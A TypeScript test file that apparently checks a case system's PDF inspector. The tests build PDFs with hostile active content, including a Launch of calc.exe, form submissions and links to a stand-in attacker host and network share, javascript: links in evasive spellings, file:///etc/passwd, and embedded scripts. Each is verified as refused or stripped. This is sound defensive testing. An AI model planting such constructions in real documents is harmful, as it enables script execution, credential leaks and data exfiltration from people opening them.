import { inflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFRawStream,
  PDFStream,
  PDFString,
  type PDFContext,
  type PDFObject,
  type PDFPage,
} from 'pdf-lib';
import { silentLogger } from '../../src/core/log.js';
import { caseZip } from '../../src/documents/archive-zip.js';
import { documentPdf } from '../../src/documents/pages.js';
import { Vault } from '../../src/documents/vault.js';
import type { CaseState, FilePage } from '../../src/sop/case.js';
import { testStore, type TestStore } from '../support/store.js';
import { inspectBytes, testInspector } from '../support/inspector.js';
import { testOffice } from '../support/office.js';

/** Puts something into a PDF that would become active when the file is opened or tapped. */
type Attack = (pdf: PDFDocument, page: PDFPage) => void;

const url = 'http://penyerang.contoh/x';
const share = '\\\\penyerang.contoh\\berkas\\x';
const name = PDFName.of;
const at = (context: PDFContext, object: PDFObject) => context.register(object);

function opens(entries: (context: PDFContext) => Record<string, unknown>): Attack {
  return (pdf) => pdf.catalog.set(name('OpenAction'), pdf.context.obj(entries(pdf.context) as never));
}
function annotates(entries: (context: PDFContext) => Record<string, unknown>): Attack {
  return (pdf, page) => {
    const annotation = pdf.context.obj({
      Type: 'Annot',
      Rect: [0, 0, 595, 842],
      ...entries(pdf.context),
    } as never);
    page.node.set(name('Annots'), pdf.context.obj([at(pdf.context, annotation)]));
  };
}

/** Attacks that are refused at the door. */
const REFUSED: Readonly<Record<string, Attack>> = {
  'Launch, its kind by reference': opens((c) => ({
    S: at(c, name('Launch')),
    F: PDFString.of('calc.exe'),
  })),
  'SubmitForm, its kind by reference': annotates((c) => ({
    Subtype: 'Link',
    A: { S: at(c, name('SubmitForm')), F: PDFString.of(url) },
  })),
  'GoToR to a share': opens(() => ({ S: 'GoToR', F: PDFString.of(share), D: [0, 'Fit'] })),
  'GoToR behind a link': annotates(() => ({
    Subtype: 'Link',
    A: { S: 'GoToR', F: PDFString.of(share), D: [0, 'Fit'] },
  })),
  'GoToE into a file within': opens(() => ({ S: 'GoToE', T: { R: 'C', N: PDFString.of('x.pdf') } })),
  'an attachment that is a share': annotates(() => ({
    Subtype: 'FileAttachment',
    FS: { Type: 'Filespec', F: PDFString.of(share) },
  })),
  'a page that opens an address': (pdf, page) =>
    page.node.set(
      name('AA'),
      pdf.context.obj({ O: at(pdf.context, pdf.context.obj({ S: 'URI', URI: PDFString.of(url) })) }),
    ),
  'an address on opening': opens(() => ({ S: 'URI', URI: PDFString.of(url) })),
  'a link that runs a script': annotates(() => ({
    Subtype: 'Link',
    A: { S: 'URI', URI: PDFString.of('javascript:alert(1)') },
  })),
  'the same in another spelling': annotates((c) => ({
    Subtype: 'Link',
    A: { S: 'URI', URI: at(c, PDFHexString.fromText(' JaVaScRiPt:alert(1)')) },
  })),
  'a link to a file': annotates(() => ({
    Subtype: 'Link',
    A: { S: 'URI', URI: PDFString.of('file:///etc/passwd') },
  })),
  'a rendition': annotates(() => ({ Subtype: 'Screen', A: { S: 'Rendition', OP: 0 } })),
  'a movie': annotates(() => ({ Subtype: 'Movie', Movie: { F: PDFString.of(url) } })),
  'a sound': opens((c) => ({ S: at(c, name('Sound')) })),
  'rich media': annotates(() => ({ Subtype: 'RichMedia', RichMediaContent: {} })),
  'a script by reference': opens((c) => ({
    S: at(c, name('JavaScript')),
    JS: at(c, PDFString.of('app.alert(1)')),
  })),
  'a script in the tree of names': (pdf) => pdf.addJavaScript('x', 'app.alert(1)'),
  'a form that imports data': opens(() => ({ S: 'ImportData', F: PDFString.of(share) })),
  'a form with scripts of its own': (pdf) =>
    pdf.catalog.set(name('AcroForm'), pdf.context.obj({ Fields: [], XFA: [PDFString.of('template')] })),
  'a picture whose content is elsewhere': (pdf, page) => {
    const dict = pdf.context.obj({
      Type: 'XObject',
      Subtype: 'Image',
      Width: 1,
      Height: 1,
      ColorSpace: 'DeviceGray',
      BitsPerComponent: 8,
      F: PDFString.of(share),
      Length: 0,
    } as never) as unknown as PDFDict;
    page.node.newXObject('X', at(pdf.context, PDFRawStream.of(dict, new Uint8Array())));
  },
  'a page that is elsewhere': (pdf, page) => {
    const form = pdf.context.obj({
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 1, 1],
      Ref: { F: PDFString.of(share), Page: 0 },
      Length: 0,
    } as never) as unknown as PDFDict;
    page.node.newXObject('R', at(pdf.context, PDFRawStream.of(form, new Uint8Array())));
  },
  'an action behind another one': opens((c) => ({
    S: 'GoTo',
    D: [0, 'Fit'],
    Next: at(c, c.obj([{ S: 'Launch', F: PDFString.of('x') }] as never)),
  })),
  'an action of a field': (pdf) =>
    pdf.catalog.set(
      name('AcroForm'),
      pdf.context.obj({
        Fields: [{ T: PDFString.of('f'), AA: { K: { S: 'URI', URI: PDFString.of(url) } } }],
      } as never),
    ),
};

/** Things common in honest certificates: accepted, but removed from what officers get. */
const TAKEN: Readonly<Record<string, Attack>> = {
  'a link over the whole page': annotates(() => ({
    Subtype: 'Link',
    A: { S: 'URI', URI: PDFString.of(url) },
  })),
  'a link by reference': annotates((c) => ({
    Subtype: 'Link',
    A: at(c, c.obj({ S: 'URI', URI: PDFString.of(url) })),
  })),
  'a place that is shown first': opens(() => ({ S: 'GoTo', D: [0, 'Fit'] })),
  'a note on the page': annotates(() => ({ Subtype: 'Text', Contents: PDFString.of(url) })),
  'words about the file': (pdf) => {
    pdf.setTitle(url);
    pdf.setAuthor(share);
  },
};

async function attacked(attack: Attack, useObjectStreams: boolean): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText('SERTIFIKAT CONTOH', { x: 100, y: 700 });
  attack(pdf, page);
  return Buffer.from(await pdf.save({ useObjectStreams }));
}

let db: TestStore;
let vault: Vault;
beforeAll(async () => {
  db = await testStore();
  vault = new Vault({ store: db.store, keyring: db.keyring, log: silentLogger() });
  await db.keyring.createDataKey(null, 'person');
});
afterAll(() => db.stop());

const both = [true, false];

describe('at the door', () => {
  it.each(Object.keys(REFUSED))('%s: refused', async (kind) => {
    for (const packed of both) {
      const bytes = await attacked(REFUSED[kind]!, packed);
      expect(await inspectBytes(bytes)).toEqual({ ok: false, reason: 'format' });
    }
  });

  it.each(Object.keys(TAKEN))('%s: taken', async (kind) => {
    for (const packed of both) {
      const bytes = await attacked(TAKEN[kind]!, packed);
      expect(await inspectBytes(bytes)).toMatchObject({ ok: true, pages: 1 });
    }
  });
});

describe('what officers download', () => {
  /** Stores a file in the vault as if it had passed the door. */
  async function stored(bytes: Buffer): Promise<FilePage> {
    const file = { keyId: 'person', bytes, contentType: 'application/pdf', pages: 1, views: [] } as const;
    const { _id: fileId, contentHash } = await vault.put(file);
    return { fileId, contentHash, contentType: 'application/pdf', bytes: bytes.length, pages: 1, order: 0 };
  }

  it.each([...Object.entries(REFUSED), ...Object.entries(TAKEN)].map(([kind]) => kind))(
    'holds nothing of it: %s',
    async (kind) => {
      const attack = { ...REFUSED, ...TAKEN }[kind]!;
      const document = { code: 'sertifikat', files: [await stored(await attacked(attack, false))] };
      const parts = { vault, inspector: testInspector };
      const pdf = (await documentPdf(parts, document, 'test')) ?? Buffer.alloc(0);
      await expectHarmless(pdf);
      const kase = {
        id: 'c',
        number: 'KT-2026-00001',
        applicant: null,
        documents: [document],
        updatedAt: '2026-11-24T02:00:00.000Z',
      } as unknown as CaseState;
      const chunks: Buffer[] = [];
      for await (const chunk of caseZip(parts, kase, testOffice())) chunks.push(chunk as Buffer);
      // The archive is not compressed, so the same PDF stands in it byte for byte.
      expect(Buffer.concat(chunks).includes(pdf)).toBe(true);
    },
  );
});

/** Checks every object of a PDF, and every byte of it that can be unpacked. */
async function expectHarmless(bytes: Buffer): Promise<void> {
  const pdf = await PDFDocument.load(bytes, { updateMetadata: false });
  expect(pdf.getPageCount()).toBe(1);
  const keys = new Set<string>();
  const todo: PDFObject[] = pdf.context.enumerateIndirectObjects().map(([, object]) => object);
  for (let object = todo.pop(); object; object = todo.pop()) {
    if (object instanceof PDFArray) todo.push(...object.asArray());
    const dict = object instanceof PDFStream ? object.dict : object;
    if (!(dict instanceof PDFDict)) continue;
    for (const [key, value] of dict.entries()) {
      keys.add(key.decodeText());
      todo.push(value);
    }
  }
  const used = [
    'Type',
    'Pages',
    'Kids',
    'Count',
    'Parent',
    'Resources',
    'Contents',
    'MediaBox',
    'XObject',
    'Font',
  ];
  const streams = [
    'Length',
    'Filter',
    'Subtype',
    'Width',
    'Height',
    'ColorSpace',
    'BitsPerComponent',
    'Decode',
  ];
  const packed = ['N', 'First', 'Index', 'W', 'Size', 'Root', 'Info', 'Prev', 'ID', 'ExtGState'];
  const known = new Set([...used, ...streams, ...packed]);
  expect([...keys].filter((key) => !known.has(key) && !key.startsWith('Image'))).toEqual([]);
  expect(pdf.context.lookup(pdf.context.trailerInfo.Root, PDFDict).keys().map(String).sort()).toEqual([
    '/Pages',
    '/Type',
  ]);
  const text = [bytes, ...unpacked(bytes)].map((part) => part.toString('latin1')).join('\n');
  for (const trace of ['penyerang', 'javascript', 'calc.exe', 'app.alert', 'passwd']) {
    expect(text.toLowerCase()).not.toContain(trace);
  }
}

function unpacked(bytes: Buffer): Buffer[] {
  const found: Buffer[] = [];
  for (let start = bytes.indexOf('stream\n'); start >= 0; start = bytes.indexOf('stream\n', start + 7)) {
    try {
      found.push(inflateSync(bytes.subarray(start + 7), { finishFlush: 2 }));
    } catch {
      // Not compressed in that way; it was checked as it is.
    }
  }
  return found;
}
